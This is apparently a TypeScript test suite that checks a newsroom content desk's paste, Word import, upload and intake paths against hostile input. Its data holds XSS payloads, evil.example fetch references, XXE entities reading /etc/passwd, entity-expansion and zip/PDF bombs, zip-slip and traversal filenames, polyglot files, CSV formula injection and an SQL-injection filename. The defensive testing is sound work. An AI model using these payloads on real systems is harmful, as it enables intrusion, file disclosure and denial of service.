/** Documents made to do harm, by each way into the desk: pasted, imported, uploaded. Nothing executes, each is answered in words, the desk stays up. */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { after, before, describe, test } from 'node:test';
import { intakePages } from '@chengmen/content';
import { isCleanBody, sanitise } from '@chengmen/html';
import { itemHistory } from '@chengmen/revision';
import { siteId } from 'chengmen';
import fc from 'fast-check';
import type { Browser, BrowserContext } from 'playwright-core';
import { noBrowser, openBrowser } from './support/open-browser.ts';
import { openDesk, type OpenDesk } from './support/open-desk.ts';
import { paste } from './support/paste.ts';
import { temporaryFolder } from './support/start-city.ts';
import { pdfBomb, pdfKnot } from '../packages/media/src/testing/make-files.ts';
import { onePixel, relations, wordFile, zipOf } from './support/word-file.ts';

/** Calls a function of the page that counts. */
const hit = 'ranAnyway()';

/** What runs a script, or fetches from elsewhere, as soon as it stands in a page. */
const active: readonly string[] = [
  `<img src=x onerror=${hit}>`,
  `<svg onload=${hit}></svg>`,
  `<script>${hit}</script>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<a href="javascript:${hit}">甲</a>`,
  `<a href="java&#x0A;script:${hit}">甲</a>`,
  `<video><source onerror=${hit}></video>`,
  `<details open ontoggle=${hit}>甲</details>`,
  `<input autofocus onfocus=${hit}>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<p style="background:url(https://evil.example/x.png)">甲</p>`,
  `<object data="data:text/html,<script>parent.${hit}</script>"></object>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
];
/** Where parsers disagree about what is text and what is markup. */
const contexts: readonly ((inside: string) => string)[] = [
  (inside) => `<p>乙</p>${inside}`,
  (inside) => `<noscript><p title="</noscript>${inside}">`,
  (inside) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${inside.replaceAll('"', '&quot;')}">`,
  (inside) => `<svg></p><style><a id="</style>${inside}">`,
  (inside) => `<textarea><p title="</textarea>${inside}">`,
  (inside) => `<svg><foreignObject><p>${inside}</p></foreignObject></svg>`,
  (inside) => `<!--x--!>${inside}-->`,
  (inside) => `<table><tr>${inside}<td><select><option>${inside}</select>`,
  (inside) => `<p data-pm-slice="1 1 []">${inside}</p>`,
];
const pastes = active.flatMap((one) => contexts.map((within) => within(one)));

/** Zip archives keep names in two places; both get the other one. */
function renamed(archive: Buffer, from: string, to: string): Buffer {
  const [old, other] = [Buffer.from(from), Buffer.from(to)];
  assert.equal(old.length, other.length);
  const copy = Buffer.from(archive);
  for (let at = copy.indexOf(old); at >= 0; at = copy.indexOf(old, at + 1)) other.copy(copy, at);
  return copy;
}

const paragraph = (inside: string): string => `<w:p><w:r>${inside}</w:r></w:p>`;
const external = (type: string, target: string): string =>
  relations(
    `<Relationship Id="l1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
  );

/** Word documents by what is wrong with them. */
const words: Readonly<Record<string, () => Buffer>> = {
  ...Object.fromEntries(
    [
      ...['word/vbaProject.bin', 'word/vbaData.xml', 'word/embeddings/oleObject1.bin', 'word/activeX/activeX1.bin'],
      ...['../../etc/cron.d/x', '/etc/passwd', 'C:\\Windows\\x.exe', 'word/..\\..\\x', 'word/a\u0000b.xml'],
      ...['word/x.exe', 'word/x.js', 'word/x.hta', 'word/x.lnk', '[Content_Types].xml/', 'word/\u202Egpj.exe'],
    ].map((name) => [`part ${JSON.stringify(name)}`, () => wordFile({ [name]: 'x' })]),
  ),
  ...Object.fromEntries(
    active.map((one) => [
      `text ${one}`,
      () => wordFile({}, paragraph(`<w:t>${one.replace(/[<&]/g, (sign) => (sign === '<' ? '&lt;' : '&amp;'))}</w:t>`)),
    ]),
  ),
  ...Object.fromEntries(
    ['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', '\\\\evil.example\\share\\x', 'vbscript:x'].map(
      (target) => [
        `link to ${target}`,
        () => wordFile({ 'word/_rels/document.xml.rels': external('hyperlink', target) }),
      ],
    ),
  ),
  'a template from elsewhere': () =>
    wordFile({ 'word/_rels/settings.xml.rels': external('attachedTemplate', 'https://evil.example/x.dotm') }),
  'a picture from elsewhere': () =>
    wordFile({ 'word/_rels/document.xml.rels': external('image', 'https://evil.example/x.png') }),
  'entities that multiply': () =>
    wordFile({
      'word/document.xml': `<!DOCTYPE a [<!ENTITY a "${'甲'.repeat(64)}">${Array.from('bcdefgh', (name, at) => `<!ENTITY ${name} "${`&${'abcdefg'[at]};`.repeat(64)}">`).join('')}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraph('<w:t>&h;</w:t>')}</w:body></w:document>`,
    }),
  'an entity that reads a file': () =>
    wordFile({
      'word/document.xml': `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraph('<w:t>&x;</w:t>')}</w:body></w:document>`,
    }),
  'a bomb': () => wordFile({ 'word/huge.xml': new Uint8Array(30 * 1024 * 1024) }),
  'a table of 50 MB': () => {
    const cell = `<w:tc><w:p><w:r><w:t>甲</w:t></w:r></w:p></w:tc>`;
    return wordFile({}, `<w:tbl>${`<w:tr>${cell.repeat(1000)}</w:tr>`.repeat(1000)}</w:tbl>`);
  },
  'ten thousand elements deep': () =>
    wordFile({}, `${'<w:tbl><w:tr><w:tc>'.repeat(10_000)}${'</w:tc></w:tr></w:tbl>'.repeat(10_000)}`),
  'a picture that is a page': () => wordFile({ 'word/media/image1.png': `<script>${hit}</script>` }),
  'a picture with a page behind it': () =>
    wordFile({ 'word/media/image1.png': Buffer.concat([onePixel, Buffer.from(`<script>${hit}</script>`)]) }),
  'two parts of one name': () =>
    renamed(wordFile({ 'word/documenu.xml': 'x' }), 'word/documenu.xml', 'word/document.xml'),
  'cut off': () => wordFile().subarray(0, 400),
  'a program': () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2000)]),
  nothing: () => Buffer.alloc(0),
};

const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${hit}</script></svg>`;
const page = `<!doctype html><script>${hit}</script>`;
const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(600)]);
/** Files by the names they claim. */
const uploads: readonly (readonly [name: string, bytes: () => Buffer])[] = [
  ...['图.svg', '图.png', '图.jpg', '图.txt', '图.csv', '图.pdf', '图.docx', '图.svgz'].map(
    (name) => [name, () => Buffer.from(svg)] as const,
  ),
  ...['页.html', '页.htm', '页.xhtml', '页.shtml', '页.png', '页.gif', '页.txt', '页.xml', '页.mht', '页'].map(
    (name) => [name, () => Buffer.from(page)] as const,
  ),
  ...['程序.exe', '程序.docx', '程序.pdf', '程序.jpg', '程序.txt', '程序.zip'].map(
    (name) => [name, () => program] as const,
  ),
  ...[
    '../../x.png',
    '..\\..\\x.png',
    '/etc/passwd.png',
    'a\u0000.html.png',
    '\u202Egnp.exe',
    'con.png',
    `${'长'.repeat(5000)}.png`,
    '.htaccess',
    '"><img src=x onerror=ranAnyway()>.png',
    "a';drop table item;--.png",
  ].map((name) => [name, () => onePixel] as const),
  ...[page, svg, 'PK\u0003\u0004', '%PDF-1.4\n', '#!/bin/sh\n'].map(
    (behind, at) => [`两者-${at}.png`, () => Buffer.concat([onePixel, Buffer.from(behind, 'latin1')])] as const,
  ),
  ...[page, '/*', svg].map(
    (first, at) =>
      [`GIF-${at}.gif`, () => Buffer.concat([Buffer.from('GIF89a'), Buffer.from(first), Buffer.alloc(40)])] as const,
  ),
  ['炸.pdf', () => pdfBomb(700)],
  ['结.pdf', pdfKnot],
  ['包.zip', () => zipOf({ 'a.txt': new Uint8Array(40_000_000) })],
  ['套.zip', () => zipOf({ 'a.zip': zipOf({ 'b.zip': zipOf({ 'c.exe': 'MZ' }) }) })],
  ['出.zip', () => zipOf({ '../../../x.txt': 'x' })],
  ['壳.zip', () => zipOf({ '安装.exe': 'MZ', 'a.scr': 'x', 'a.js': 'x' })],
  ['多.zip', () => zipOf(Object.fromEntries(Array.from({ length: 20_000 }, (_, at) => [`${at}.txt`, ''])))],
];

const entities = `<!DOCTYPE a [<!ENTITY a "${'甲'.repeat(64)}">${Array.from('bcdefgh', (name, at) => `<!ENTITY ${name} "${`&${'abcdefg'[at]};`.repeat(64)}">`).join('')}<!ENTITY x SYSTEM "file:///etc/passwd">]>`;
const zeros = gzipSync(new Uint8Array(40_000_000));
/** Sources of old pages, by the names they are handed in under. */
const oldSources: readonly (readonly [name: string, bytes: () => Buffer])[] = [
  ...contexts.map(
    (within, at) =>
      [
        `贴-${at}.html`,
        () =>
          Buffer.from(
            `<html><head><title>第${at}页${hit}</title></head><body><h1>第${at}页</h1><p>发布日期：2020-05-06 来源：水利局</p><div>${'<p>江堤巡查照常进行，请市民不要靠近水边，注意安全。巡查队员每两小时走一遍全线，发现渗水马上报告。</p>'.repeat(3)}${active.map(within).join('')}</div></body></html>`,
          ),
      ] as const,
  ),
  ['深.html', () => Buffer.from('<div>'.repeat(50_000))],
  ['零.html', () => Buffer.alloc(3_000_000)],
  ['炸.xlsx', () => zipOf({ 'xl/worksheets/sheet1.xml': new Uint8Array(40_000_000) })],
  ['伪.xlsx', () => Buffer.from(page)],
  [
    '实体.xlsx',
    () =>
      zipOf({
        'xl/workbook.xml': `${entities}<workbook><sheets><sheet name="&h;" sheetId="1"/></sheets></workbook>`,
        'xl/worksheets/sheet1.xml': `${entities}<worksheet><sheetData><row><c t="str"><v>&x;&h;</v></c></row></sheetData></worksheet>`,
      }),
  ],
  ['引.csv', () => Buffer.from(`标题,正文\n${'"'.repeat(100_001)}`)],
  ['式.csv', () => Buffer.from(`标题,正文\n=HYPERLINK("https://evil.example/"),<img src=x onerror=${hit}>\n`)],
  ['深.jsonl', () => Buffer.from(`${'['.repeat(100_000)}\n{"标题":{"__proto__":{"x":1}},"正文":[]}\n`)],
  ['实体.rss', () => Buffer.from(`${entities}<rss><channel><item><title>&h;&x;</title></item></channel></rss>`)],
  [
    '断.warc',
    () => Buffer.from('WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 99999999999999\r\n\r\nHTTP/1.1 200'),
  ],
  ['炸.warc.gz', () => zeros],
  ['断.warc.gz', () => zeros.subarray(0, 1000)],
];

describe('hostile documents', { skip: noBrowser }, () => {
  const folder = temporaryFolder();
  let desk: OpenDesk;
  let browser: Browser;
  let context: BrowserContext;
  let cookie = '';
  let token = '';

  before(async () => {
    [desk, browser] = await Promise.all([openDesk(join(folder.path, 'city'), { caibian: ['writer'] }), openBrowser()]);
    context = await browser.newContext();
    await desk.signIn(context, 'caibian');
    cookie = (await context.cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
    const form = await (await fetch(`${desk.address}/items/new`, { headers: { cookie } })).text();
    token = /name="_token" value="([^"]+)"/.exec(form)?.[1] ?? '';
  });
  after(async () => {
    await browser.close();
    await desk.close();
    folder.remove();
  });

  const send = async (path: string, name: string, bytes: Buffer): Promise<{ status: number; told: unknown }> => {
    const body = new FormData();
    body.set('alt', '江堤');
    body.set('file', new Blob([bytes]), name);
    const answer = await fetch(`${desk.address}${path}`, {
      method: 'POST',
      headers: { cookie, 'x-form-token': token, origin: desk.address, accept: 'application/json' },
      body,
    });
    return { status: answer.status, told: await answer.json() };
  };
  const upStill = async (): Promise<void> => {
    assert.equal((await fetch(`${desk.address}/items/new`, { headers: { cookie } })).status, 200);
  };
  /** Whether anything of it runs, or is fetched from elsewhere, in a page that has no policy to stop it. */
  const inert = async (all: readonly string[]): Promise<void> => {
    const open = await browser.newPage();
    const asked: string[] = [];
    open.on('request', (request) => asked.push(request.url()));
    await open.route('**', (route) => route.abort());
    await open.setContent(
      '<!doctype html><script>window.hits = 0; window.ranAnyway = () => window.hits++</script><main></main>',
    );
    const ran = await open.evaluate(async (bodies) => {
      const page = globalThis as unknown as {
        hits: number;
        document: {
          querySelector(s: string): { innerHTML: string; querySelectorAll(s: string): Iterable<{ click(): void }> };
        };
        requestAnimationFrame(then: () => void): void;
      };
      const place = page.document.querySelector('main');
      const found: string[] = [];
      for (const body of bodies) {
        page.hits = 0;
        place.innerHTML = body;
        for (const link of place.querySelectorAll('a[href^="javascript" i]')) link.click();
        await new Promise<void>((resolve) => {
          page.requestAnimationFrame(resolve);
        });
        if (page.hits > 0) found.push(body);
      }
      return found;
    }, all);
    assert.deepEqual(ran, []);
    assert.deepEqual(
      asked.filter((url) => /evil\.example|^data:text/.test(url)),
      [],
    );
    await open.close();
  };

  test(`${pastes.length} pastes: what is kept of them neither runs nor fetches`, async () => {
    const kept = pastes.map((one) => sanitise(one).html);
    await inert(kept);
    for (const body of kept) assert.ok(isCleanBody(body), body);
  });

  test('the same through the editor itself: what is kept has none of it', async () => {
    const editor = await context.newPage();
    const ran: string[] = [];
    await editor.exposeFunction('ranAnyway', () => ran.push('a script'));
    editor.on('request', (request) => {
      if (request.url().includes('evil.example')) ran.push(request.url());
    });
    await editor.goto(`${desk.address}/items/new`);
    await editor.locator('.body[contenteditable=true]').click();
    await paste(editor, ...pastes);
    await editor.getByLabel('标题').fill('有人投毒');
    await editor.getByLabel('来源').fill('临江市数据局');
    const item = await editor.locator('input[name=item]').inputValue();
    await editor.getByRole('button', { name: '保存草稿' }).click();
    await editor.locator('#writing-notices .notice', { hasText: '已存为修订' }).waitFor();
    const [saved] = await itemHistory(desk.office.ledger.db, siteId, item);
    const { body } = saved?.fields as { body: string };
    assert.ok(isCleanBody(body));
    assert.match(body, /乙/, 'what was harmless came in');
    assert.doesNotMatch(
      body,
      /<(?:script|svg|iframe|style|object|form|input|video)|javascript:|evil\.example|\son\w+=/i,
    );
    assert.deepEqual(ran, []);
    await editor.close();
  });

  test(`${Object.keys(words).length} Word documents: each is taken in as harmless text or refused in words`, async () => {
    const taken: string[] = [];
    for (const [what, make] of Object.entries(words)) {
      const { status, told } = await send('/api/import', '通知.docx', make());
      const { html, error } = told as { html?: string; error?: { zh: string; en: string } };
      assert.ok(
        status === 200 || (status >= 400 && status < 500 && error?.zh && error.en),
        `${what}: ${status} ${JSON.stringify(told)}`,
      );
      if (html !== undefined) taken.push(html);
    }
    assert.ok(
      taken.every((html) => !html.includes('root:')),
      'no file of the machine',
    );
    await inert(taken);
    await upStill();
  });

  test(`${uploads.length} files: each is taken in as what it may be or refused in words; what is kept cannot run`, async () => {
    for (const [name, make] of uploads) {
      const { status, told } = await send('/api/upload', name, make());
      const [one] = (Array.isArray(told) ? told : [told]) as {
        item?: string;
        refused?: { zh: string; en: string };
        zh?: string;
      }[];
      const refused = one?.refused ?? (status >= 400 && status < 500 ? one : undefined);
      assert.ok(refused?.zh ?? (status === 200 && one?.item), `${name}: ${status} ${JSON.stringify(told)}`);
      if (one?.item === undefined) continue;
      // Its page reads what is in it.
      const shown = await fetch(`${desk.address}/items/${one.item}`, { headers: { cookie } });
      assert.equal(shown.status, 200, name);
      if (name.endsWith('.pdf')) assert.match(await shown.text(), /只检查了一部分/, name);
      const [kept] = await itemHistory(desk.office.ledger.db, siteId, one.item);
      const served = await fetch(`${desk.address}/bytes/${kept?.revision}`, { headers: { cookie } });
      const [type, policy] = ['content-type', 'content-security-policy'].map(
        (header) => served.headers.get(header) ?? '',
      );
      assert.doesNotMatch(type ?? '', /html|svg|xml|javascript/, name);
      assert.match(policy ?? '', /sandbox/, name);
      assert.equal(served.headers.get('x-content-type-options'), 'nosniff', name);
      assert.ok(!Buffer.from(await served.arrayBuffer()).includes('ranAnyway'), name);
    }
    await upStill();
  });

  const sendToIntake = (
    files: readonly (readonly [name: string, bytes: Uint8Array<ArrayBuffer>])[],
    fields: Readonly<Record<string, string>> = {},
  ): Promise<Response> => {
    const body = new FormData();
    for (const [name, value] of Object.entries({ _token: token, ...fields })) body.append(name, value);
    for (const [name, bytes] of files) body.append('file', new Blob([bytes]), name);
    return fetch(`${desk.address}/intake/upload`, { method: 'POST', headers: { cookie }, body, redirect: 'manual' });
  };

  test(`${oldSources.length} sources of old pages, and the files: each is read or refused in words; no report runs any of it`, async () => {
    const others = uploads.filter(([name]) => /\.(?:[xs]?html?|txt|csv|xml|exe)$/.test(name));
    const files = [...oldSources, ...others].map(([name, make]) => [name, new Uint8Array(make())] as const);
    const answer = await sendToIntake(files, { 'column-title': '标题', 'column-body': '正文', channel: 'headlines' });
    assert.ok(answer.status >= 300 && answer.status < 500, `${answer.status}`);
    await desk.office.intake.settled(60_000);
    const { pages } = await intakePages(desk.office.ledger.db, siteId, { offset: 0, limit: 500 });
    const reports: string[] = [];
    for (const { run, number, name, state, problem } of pages) {
      assert.ok(state === 'read' || (state === 'refused' && problem?.zh && problem.en), `${name}: ${state}`);
      const report = await fetch(`${desk.address}/intake/${run}/${number}`, { headers: { cookie } });
      assert.equal(report.status, 200, name);
      reports.push((await report.text()).replace(/<script src="\/desk\/[^>]*><\/script>/g, ''));
    }
    const read = pages.filter(({ state }) => state === 'read').map(({ name }) => name);
    assert.ok(read.length >= 7, `some have a body: ${read.join(' ')}`);
    assert.ok(
      reports.every((html) => !html.includes('root:')),
      'no file of the machine',
    );
    await inert(reports);
    await upStill();
  });

  test('whatever is handed in for intake: an answer, never a failure of ours', async () => {
    const name = fc.tuple(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.constantFrom('.html', '.csv', '.xlsx', '.jsonl', '.warc', '.warc.gz', '.rss', '.txt', ''),
    );
    const bytes = fc.oneof(
      fc.uint8Array({ maxLength: 400 }),
      fc.string({ unit: 'binary' }).map((text) => new TextEncoder().encode(text)),
    );
    const fields = fc.dictionary(
      fc.constantFrom('name', 'channel', 'channels', 'column-title', 'column-body', 'sheet', 'body', '__proto__'),
      fc.oneof(fc.constantFrom('headlines', '标题', '/xw/ → news', 'text'), fc.string({ unit: 'binary' })),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(name, bytes), { maxLength: 3 }), fields, async (files, more) => {
        const given = files.map(([[first, ending], one]) => [`${first}${ending}`, new Uint8Array(one)] as const);
        const answer = await sendToIntake(given, more);
        const told = await answer.text();
        assert.ok(answer.status < 500, `${answer.status} ${told.slice(0, 300)}`);
        assert.doesNotMatch(told, /\bat [\w.]+ \(|node_modules|\.ts:\d/, 'no stack');
      }),
      { numRuns: 30 },
    );
    await desk.office.intake.settled(60_000);
    await upStill();
  });
});
